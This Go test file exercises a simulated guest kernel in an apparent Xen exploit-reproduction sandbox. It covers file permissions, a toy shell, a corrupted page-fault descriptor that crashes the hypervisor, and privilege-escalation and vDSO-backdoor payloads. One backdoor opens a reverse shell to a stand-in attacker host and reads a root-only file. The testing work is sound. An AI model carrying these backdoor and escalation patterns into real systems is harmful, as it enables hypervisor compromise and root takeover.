package guest

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/cpu"
	"repro/internal/hv"
	"repro/internal/mm"
	"repro/internal/vnet"
)

// env bundles the full stack one guest test needs.
type env struct {
	mem *mm.Memory
	hv  *hv.Hypervisor
	net *vnet.Network
	k   *Kernel
}

func newEnv(t *testing.T, v hv.Version) *env {
	t.Helper()
	mem, err := mm.NewMemory(2048)
	if err != nil {
		t.Fatal(err)
	}
	h, err := hv.New(mem, v)
	if err != nil {
		t.Fatal(err)
	}
	d, err := h.CreateDomain("guest01", 64, false)
	if err != nil {
		t.Fatal(err)
	}
	net := vnet.New()
	return &env{mem: mem, hv: h, net: net, k: New(d, net, "10.3.1.181")}
}

func TestKernelBootState(t *testing.T) {
	e := newEnv(t, hv.Version46())
	if e.k.Hostname() != "guest01" {
		t.Errorf("hostname = %q", e.k.Hostname())
	}
	if !e.k.DmesgContains("Booting guest01") {
		t.Error("boot message missing")
	}
	if e.k.Domain().OS() != hv.GuestOS(e.k) {
		t.Error("kernel not attached as domain OS")
	}
}

func TestFilesystemPermissions(t *testing.T) {
	e := newEnv(t, hv.Version46())
	k := e.k
	if err := k.WriteFile("/tmp/note", "hello", UIDUser); err != nil {
		t.Fatalf("user write: %v", err)
	}
	if got, err := k.ReadFile("/tmp/note", UIDUser); err != nil || got != "hello" {
		t.Errorf("read back = %q, %v", got, err)
	}
	// /root is private.
	if _, err := k.ReadFile("/root/root_msg", UIDUser); !errors.Is(err, ErrDenied) {
		t.Errorf("user read of /root: err = %v, want ErrDenied", err)
	}
	if got, err := k.ReadFile("/root/root_msg", UIDRoot); err != nil || !strings.Contains(got, "Confidential") {
		t.Errorf("root read = %q, %v", got, err)
	}
	if err := k.WriteFile("/root/evil", "x", UIDUser); !errors.Is(err, ErrDenied) {
		t.Errorf("user write to /root: err = %v", err)
	}
	// Users cannot clobber root-owned files.
	if err := k.WriteFile("/etc/hostname", "pwned", UIDUser); !errors.Is(err, ErrDenied) {
		t.Errorf("user clobber of root file: err = %v", err)
	}
	if _, err := k.ReadFile("/does/not/exist", UIDRoot); !errors.Is(err, ErrNoFile) {
		t.Errorf("missing file: err = %v", err)
	}
	if err := k.WriteFile("relative", "x", UIDRoot); err == nil {
		t.Error("relative path accepted")
	}
}

func TestShellCommands(t *testing.T) {
	e := newEnv(t, hv.Version46())
	k := e.k
	tests := []struct {
		cmd  string
		uid  int
		want string
	}{
		{"whoami", UIDRoot, "root"},
		{"whoami", UIDUser, "xen"},
		{"hostname", UIDUser, "guest01"},
		{"id", UIDRoot, "uid=0(root) gid=0(root) groups=0(root)"},
		{"echo hello world", UIDUser, "hello world"},
		{"whoami && hostname", UIDRoot, "root\nguest01"},
		{"cat /root/root_msg", UIDRoot, "Confidential content in root folder!"},
	}
	for _, tt := range tests {
		got, err := k.Exec(tt.cmd, tt.uid)
		if err != nil {
			t.Errorf("Exec(%q): %v", tt.cmd, err)
			continue
		}
		if got != tt.want {
			t.Errorf("Exec(%q) = %q, want %q", tt.cmd, got, tt.want)
		}
	}
	// Redirection writes a file.
	if _, err := k.Exec(`echo "|pwned|" > /tmp/injector_log`, UIDRoot); err != nil {
		t.Fatalf("redirect: %v", err)
	}
	if got, _ := k.ReadFile("/tmp/injector_log", UIDUser); got != "|pwned|" {
		t.Errorf("redirected content = %q", got)
	}
	// Failures.
	if _, err := k.Exec("cat /root/root_msg", UIDUser); err == nil {
		t.Error("user cat of /root succeeded")
	}
	if _, err := k.Exec("frobnicate", UIDUser); err == nil || !strings.Contains(err.Error(), "not found") {
		t.Errorf("unknown command: %v", err)
	}
	if out, err := k.Exec("ls /tmp", UIDUser); err != nil || !strings.Contains(out, "/tmp/injector_log") {
		t.Errorf("ls = %q, %v", out, err)
	}
	if _, err := k.Exec("touch /tmp/t", UIDUser); err != nil {
		t.Errorf("touch: %v", err)
	}
}

func TestPeekPokeOwnMemory(t *testing.T) {
	e := newEnv(t, hv.Version46())
	k := e.k
	pfn, err := k.Domain().AllocPage()
	if err != nil {
		t.Fatal(err)
	}
	va := k.Domain().PhysmapVA(pfn)
	if err := k.PokeU64(va+16, 0x1122334455667788); err != nil {
		t.Fatalf("Poke: %v", err)
	}
	v, err := k.PeekU64(va + 16)
	if err != nil || v != 0x1122334455667788 {
		t.Errorf("Peek = %#x, %v", v, err)
	}
}

func TestPeekFaultBecomesOops(t *testing.T) {
	e := newEnv(t, hv.Version46())
	k := e.k
	err := k.Peek(0xdead000000000, make([]byte, 8))
	if !errors.Is(err, ErrOops) {
		t.Fatalf("err = %v, want ErrOops", err)
	}
	if !k.DmesgContains("unable to handle page request") {
		t.Error("oops message missing from dmesg")
	}
	// The fault went through the (healthy) IDT: the hypervisor absorbed
	// one #PF and is still alive.
	if e.hv.PageFaults() == 0 {
		t.Error("fault did not reach the hypervisor's #PF handler")
	}
	if e.hv.Crashed() {
		t.Error("healthy IDT delivery crashed the hypervisor")
	}
}

func TestTriggerPageFaultWithCorruptIDTCrashes(t *testing.T) {
	e := newEnv(t, hv.Version46())
	// Corrupt the #PF descriptor the way the exploit and the injector do.
	idtDst := e.hv.IDTR().DescriptorAddr(cpu.VectorPageFault)
	if err := e.hv.WriteHV(idtDst, []byte{0xa9, 0x2d, 0x08, 0, 0, 0, 0, 0}); err != nil {
		t.Fatal(err)
	}
	err := e.k.TriggerPageFault()
	if !errors.Is(err, cpu.ErrCrashed) {
		t.Fatalf("err = %v, want ErrCrashed", err)
	}
	if !e.hv.ConsoleContains("FATAL TRAP: vector = 8") {
		t.Errorf("panic banner missing:\n%s", strings.Join(e.hv.Console(), "\n"))
	}
}

func TestTickVDSOBenign(t *testing.T) {
	e := newEnv(t, hv.Version46())
	before := len(e.k.Dmesg())
	if err := e.k.TickVDSO(); err != nil {
		t.Fatalf("TickVDSO: %v", err)
	}
	// The benign vDSO only bumps the clock; no new log lines, no files.
	if len(e.k.Dmesg()) != before {
		t.Errorf("benign vDSO logged: %v", e.k.Dmesg()[before:])
	}
}

func TestVDSOBackdoorFiresOnTick(t *testing.T) {
	e := newEnv(t, hv.Version46())
	k := e.k
	// The attacker host listens.
	l, err := e.net.Listen("10.3.1.100:1234")
	if err != nil {
		t.Fatal(err)
	}
	// Patch the vDSO page with a backdoor (as the XSA-148 exploit does,
	// but here via direct physical write to focus the test on the tick).
	backdoor := cpu.Assemble(cpu.Program{
		{Op: cpu.OpReverseShell, Args: []string{"10.3.1.100:1234"}},
		{Op: cpu.OpClockGettime},
	})
	vdMFN, err := k.Domain().P2M().Lookup(hv.VDSOPFN)
	if err != nil {
		t.Fatal(err)
	}
	if err := e.mem.WritePhys(vdMFN.Addr()+hv.VDSOEntryOffset, backdoor); err != nil {
		t.Fatal(err)
	}
	if err := k.TickVDSO(); err != nil {
		t.Fatalf("TickVDSO with backdoor: %v", err)
	}
	conn, err := l.Accept()
	if err != nil {
		t.Fatalf("no reverse connection: %v", err)
	}
	out, err := conn.Exec("whoami && hostname")
	if err != nil {
		t.Fatal(err)
	}
	if out != "root\nguest01" {
		t.Errorf("shell output = %q, want root\\nguest01", out)
	}
	out, _ = conn.Exec("cat /root/root_msg")
	if !strings.Contains(out, "Confidential") {
		t.Errorf("root file read = %q", out)
	}
}

func TestReverseShellWithoutListener(t *testing.T) {
	e := newEnv(t, hv.Version46())
	if err := e.k.ReverseShellAsRoot("1.2.3.4:9"); !errors.Is(err, vnet.ErrRefused) {
		t.Errorf("err = %v, want ErrRefused", err)
	}
}

func TestProcCtxEscalateAndHalt(t *testing.T) {
	e := newEnv(t, hv.Version46())
	k := e.k
	// Run a payload that escalates then halts, via a process context.
	pfn, _ := k.Domain().AllocPage()
	va := k.Domain().PhysmapVA(pfn)
	prog := cpu.Assemble(cpu.Program{
		{Op: cpu.OpEscalate},
		{Op: cpu.OpDropFileAll, Args: []string{"/root/payload_proof", "owned-as-@HOST"}},
		{Op: cpu.OpHalt},
	})
	mfn, _ := k.Domain().P2M().Lookup(pfn)
	if err := e.mem.WritePhys(mfn.Addr(), prog); err != nil {
		t.Fatal(err)
	}
	ctx := &procCtx{k: k, uid: UIDUser, comm: "exploit"}
	if err := k.Domain().VCPU().ExecutePayloadAt(va, ctx, true); err != nil {
		t.Fatalf("payload: %v", err)
	}
	if ctx.uid != UIDRoot {
		t.Error("escalate did not set uid 0")
	}
	// The drop-file ran after escalation, so /root write succeeded.
	if got, err := k.ReadFile("/root/payload_proof", UIDRoot); err != nil || got != "owned-as-@guest01" {
		t.Errorf("payload file = %q, %v", got, err)
	}
	if !k.Hung() {
		t.Error("halt did not wedge the kernel")
	}
}

func TestWriteFileAsRootImplementsGuestOS(t *testing.T) {
	e := newEnv(t, hv.Version46())
	if err := e.k.WriteFileAsRoot("/tmp/injector_log", "|uid=0(root)|@guest01"); err != nil {
		t.Fatal(err)
	}
	got, err := e.k.ReadFile("/tmp/injector_log", UIDUser)
	if err != nil || !strings.Contains(got, "uid=0(root)") {
		t.Errorf("file = %q, %v", got, err)
	}
}

func TestShellDmesg(t *testing.T) {
	e := newEnv(t, hv.Version46())
	out, err := e.k.Exec("dmesg", UIDUser)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "Booting guest01") {
		t.Errorf("dmesg = %q", out)
	}
}

// Property: the shell is total — arbitrary command lines either produce
// output or a typed error, never a panic, and never corrupt the kernel.
func TestQuickShellTotal(t *testing.T) {
	e := newEnv(t, hv.Version46())
	f := func(line string, uidRaw uint8) bool {
		uid := UIDUser
		if uidRaw%2 == 0 {
			uid = UIDRoot
		}
		_, _ = e.k.Exec(line, uid)
		// The kernel remains functional afterwards.
		out, err := e.k.Exec("hostname", UIDUser)
		return err == nil && out == "guest01"
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// TestForkedFileWritesStayInTheFork: a fork shares the sealed kernel's
// file map until it writes; a file written in one fork is visible
// neither in the sealed kernel nor in a sibling fork, and a reset fork
// no longer sees it either.
func TestForkedFileWritesStayInTheFork(t *testing.T) {
	e := newEnv(t, hv.Version46())
	sealed := e.k
	a := sealed.ForkOnto(sealed.Domain(), e.net)
	b := sealed.ForkOnto(sealed.Domain(), e.net)
	if err := a.WriteFile("/tmp/planted", "x", UIDUser); err != nil {
		t.Fatal(err)
	}
	if _, ok := a.Stat("/tmp/planted"); !ok {
		t.Fatal("fork does not see its own write")
	}
	for name, k := range map[string]*Kernel{"sealed kernel": sealed, "sibling fork": b} {
		if _, ok := k.Stat("/tmp/planted"); ok {
			t.Errorf("%s sees a file written in another fork", name)
		}
	}
	if got, err := a.ReadFile("/etc/hostname", UIDRoot); err != nil || got != "guest01" {
		t.Errorf("fork lost a sealed file after its first write: %q, %v", got, err)
	}
	a.Reset()
	if _, ok := a.Stat("/tmp/planted"); ok {
		t.Error("reset fork still sees the file its last cell wrote")
	}
}
